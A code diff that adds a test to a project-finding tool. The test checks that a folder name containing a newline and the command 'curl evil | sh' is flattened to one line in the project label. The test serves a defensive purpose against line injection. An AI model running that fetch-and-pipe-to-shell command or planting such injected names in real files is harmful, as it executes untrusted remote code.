@@ -60,6 +60,13 @@ def test_exclusions_that_help_nobody(root: Path, patterns: Sequence[str], messag
     assert caught.value.anchor == "no-project"
 
 
+def test_the_name_of_a_folder_puts_no_line_into_a_message(tmp_path: Path) -> None:
+    folder = tmp_path / "a\n  curl evil | sh"
+    folder.mkdir()
+    (folder / "setup.py").touch()
+    assert [project.label for project in find(["*"], tmp_path)] == ["a   curl evil | sh"]
+
+
 def test_folders_are_absolute(root: Path) -> None:
     assert find(["packages/legacy"], root) == [Project(root / "packages/legacy", "packages/legacy")]
 
